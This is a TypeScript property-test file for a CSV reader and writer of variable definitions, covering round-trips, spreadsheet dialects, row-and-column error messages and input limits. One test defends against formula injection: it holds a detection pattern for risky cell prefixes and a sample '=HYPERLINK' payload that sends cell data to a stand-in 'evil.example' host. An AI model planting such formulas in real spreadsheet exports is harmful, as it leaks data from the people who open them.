import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { AppError, type FieldFault } from '#libs/errors/app-error.js';
import type { VariableDefinition, Variables } from '#libs/instruction-set/instruction-set.js';
import { readSheet } from './read-sheet.js';
import { writeSheet } from './write-sheet.js';

const LIST: VariableDefinition[] = [
  {
    name: 'Palette', type: 'weighted_pick', value_type: 'strings', lock_value: false, test_value: 'dusk',
    value: { values: ['dawn', 'dusk'], display_names: ['Dawn', 'Dusk'], weights: [1, 0.25] },
  },
  { name: 'size', type: 'range', value_type: 'numbers', value: { values: [-1, 1, 0.5] } },
  { name: 'Bild', type: 'pick', value_type: 'images', value: { values: ['77', 'https://example.com/a.png'] } },
];
const HEADER = 'name,type,value_type,value,display_name,weight,lock_value,test_value';

const read = (text: string | Buffer) => readSheet(Buffer.from(text)).variables;
function faultsOf(text: string | Buffer): FieldFault[] {
  try {
    read(text);
  } catch (error) {
    return (error as AppError).details as FieldFault[];
  }
  return [];
}

describe('a sheet of variables', () => {
  it('has one row for each value, and what is said of a variable in its first', () => {
    expect(writeSheet(LIST)).toBe([
      `\uFEFF${HEADER}`,
      'Palette,weighted_pick,strings,dawn,Dawn,1,false,dusk',
      'Palette,,,dusk,Dusk,0.25,,',
      'size,range,numbers,-1,,,,',
      'size,,,1,,,,',
      'size,,,0.5,,,,',
      'Bild,pick,images,77,,,,',
      'Bild,,,https://example.com/a.png,,,,',
      '',
    ].join('\r\n'));
    expect(read(writeSheet(LIST))).toEqual(LIST);
  });

  it('gives back every list as it was', () => {
    fc.assert(fc.property(lists, (list) => {
      expect(read(writeSheet(list))).toEqual(list);
    }), { numRuns: 300 });
  });

  it('has no cell that a spreadsheet would take for a formula', () => {
    fc.assert(fc.property(lists, (list) => {
      const cells = parse(writeSheet(list), { bom: true, from: 2, record_delimiter: ['\r\n'] }).flat();
      const risky = cells.filter((cell) => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && Number.isNaN(Number(cell)));
      expect(risky).toEqual([]);
    }), { numRuns: 200 });
    const evil = '=HYPERLINK("https://evil.example/?"&A1)';
    const [{ value }] = read(writeSheet([{ name: 'a', type: 'fixed', value_type: 'strings', value: { values: [evil] } }])) as [VariableDefinition];
    expect(value.values).toEqual([evil]);
  });

  it('makes fixed ones of a record, and says which of its values no sheet can hold', () => {
    expect(read(writeSheet({ word: 'sand', size: 2 }))).toEqual([
      { name: 'word', type: 'fixed', value_type: 'strings', value: { values: ['sand'] } },
      { name: 'size', type: 'fixed', value_type: 'numbers', value: { values: [2] } },
    ]);
    expect(() => writeSheet({ word: { a: 1 } } as Variables)).toThrow(expect.objectContaining({
      details: [{ field: 'variables.word', message: expect.any(String) }],
    }));
  });

  describe('as spreadsheets save it', () => {
    const expected = [{
      name: 'Größe 🌵', type: 'weighted_pick', value_type: 'numbers', lock_value: true,
      value: { values: [0.5, 1000], weights: [0.25, 1] },
    }];
    const rows = (separator: string) => [
      ['Value', 'Name', 'type', 'VALUE TYPE', 'weight', 'lock value'], ['0,5', 'Größe 🌵', 'Weighted_Pick', 'numbers', '0,25', 'TRUE'],
      ['1000', '', '', '', '1', ''], ['', '', '', '', '', ''],
    ].map((cells) => cells.join(separator)).join('\r\n');

    it.each([
      ['with semicolons and decimal commas', Buffer.from(rows(';'))],
      ['with a mark', Buffer.from(`\uFEFF${rows(';')}`)],
      ['with the separator in its first line', Buffer.from(`sep=;\r\n${rows(';')}`)],
      ['as Unicode text', Buffer.from(`\uFEFF${rows('\t')}`, 'utf16le')],
      ['with the line ends of old Macs', Buffer.from(rows(';').replaceAll('\r\n', '\r'))],
    ])('%s is read', (_name, bytes) => {
      expect(read(bytes)).toEqual(expected);
    });
  });

  it.each<[what: string, rows: string[], faults: Array<[field: string, message: string]>]>([
    ['a number that is none', ['a,range,numbers,1,,,,', 'a,,,two,,,,'], [['rows[3].value', 'row 3, column value: must be a number']]],
    ['a missing weight', ['a,weighted_pick,strings,x,,1,,', 'a,,,y,,,,'], [['rows[3].weight', 'row 3, column weight: must be a number']]],
    ['weights without a sum', ['', 'a,weighted_pick,strings,x,,0,,'], [['rows[3].weight', 'row 3, column weight: must have a sum above zero']]],
    ['an unknown type', ['a,choose,strings,x,,,,'], [['rows[2].type', 'row 2, column type: must be fixed, pick, weighted_pick, range']]],
    ['no type', ['a,,,x,,,,'], [['rows[2].value_type', 'row 2, column value_type: must be strings, numbers, images'], ['rows[2].type', expect.any(String) as unknown as string]]],
    ['a variable in two places', ['a,fixed,strings,x,,,,', 'b,fixed,strings,x,,,,', 'a,,,y,,,,'], [['rows[4].name', expect.stringContaining('further above') as unknown as string]]],
    ['a flag that is none', ['a,fixed,strings,x,,,maybe,'], [['rows[2].lock_value', 'row 2, column lock_value: must be true or false']]],
    ['two types', ['a,pick,strings,x,,,,', 'a,range,,y,,,,'], [['rows[3].type', expect.stringContaining('first row') as unknown as string]]],
    ['a name that cannot be', ['{a},fixed,strings,x,,,,'], [['rows[2].name', expect.stringContaining('row 2, column name') as unknown as string]]],
    ['a quote that stays open', ['"a,fixed,strings,x,,,,'], [['rows[2]', 'has a quote that is not closed']]],
  ])('names row and column of %s', (_what, rows, faults) => {
    expect(faultsOf([HEADER, ...rows].join('\n'))).toEqual(
      expect.arrayContaining(faults.map(([field, message]) => ({ field, message }))),
    );
  });

  it('is refused with a heading it does not know, twice or without what it needs', () => {
    expect(faultsOf('name,colour,name\na,b,c')).toEqual([
      { field: 'rows[1]', message: 'is not a column: "colour"' },
      { field: 'rows[1]', message: 'is there twice: "name"' },
      { field: 'rows[1]', message: 'has no column "value"' },
    ]);
    expect(faultsOf('')).not.toEqual([]);
  });

  it('is refused where it is too long, no text, or not to be stored', () => {
    const long = `${HEADER}\n${'a,pick,strings,x,,,,\n'.repeat(10_001)}`;
    expect(faultsOf(long)).toEqual([{ field: 'rows', message: 'must not be more than 10000' }]);
    expect(faultsOf(`${HEADER}\na,fixed,strings,"${'x'.repeat(70_000)}",,,,`)).toHaveLength(1);
    expect(faultsOf(Buffer.from([0x6e, 0xff, 0xff]))).toEqual([{ field: 'body', message: 'must be saved as UTF-8' }]);
    expect(faultsOf(`${HEADER}\na,fixed,strings,\0,,,,`)).toEqual([{ field: 'body', message: expect.stringContaining('U+0000') }]);
  });

  it('survives any bytes', () => {
    fc.assert(fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...',;"\n\r\t').chain((part) => fc.constant(`${HEADER}${part}`))), (text) => {
      try {
        readSheet(Buffer.from(text));
      } catch (error) {
        expect(error).toBeInstanceOf(AppError);
      }
    }), { numRuns: 300 });
  });
});

/** What cells make hard: quotes, separators, line ends, formulas, apostrophes, nothing at all. */
const text = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 20 }).filter((each) => !/[\0\p{Cs}]/u.test(each)),
  fc.string({ unit: fc.constantFrom(...`'"=+-@,;\t\r\n {}a1`), maxLength: 6 }),
  fc.constantFrom('', "'", "''", "'=1", '\uFF1D1', '-5', '+', ' ', 'TRUE', '0,5'),
);
const number = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })).map((each) => (each === 0 ? 0 : each));
const name = text.filter((each) => each.length > 0 && each !== '__proto__' && !/[{}]|^\s|\s$|^\$ref:/.test(each));

const pick = <Value>(value_type: VariableDefinition['value_type'], item: fc.Arbitrary<Value>) =>
  fc.record({
    rows: fc.array(fc.record({ item, shown: text, weight: fc.double({ min: 0.001, max: 1_000, noNaN: true }) }), { minLength: 1, maxLength: 6 }),
    name, isShown: fc.boolean(), isWeighted: fc.boolean(),
    lock: fc.option(fc.boolean(), { nil: undefined }), test: fc.option(item, { nil: undefined }),
  }).map(({ rows, name: called, isShown, isWeighted, lock, test }): VariableDefinition => ({
    name: called,
    type: isWeighted ? 'weighted_pick' : 'pick',
    value_type,
    value: {
      values: rows.map((row) => row.item) as VariableDefinition['value']['values'],
      ...(isShown && { display_names: rows.map(({ shown }) => shown) }),
      ...(isWeighted && { weights: rows.map(({ weight }) => weight) }),
    },
    ...(lock !== undefined && { lock_value: lock }),
    ...(test !== undefined && { test_value: test as string }),
  }));

const reference = fc.record({ $ref: fc.integer({ min: 1, max: 9 }), collection: fc.uuid() });
const lists = fc.uniqueArray(
  fc.oneof(pick('strings', text), pick('numbers', number), pick('images', fc.oneof(text.filter((each) => !each.trimStart().startsWith('{')), reference))),
  { selector: (each) => each.name, maxLength: 5 },
);
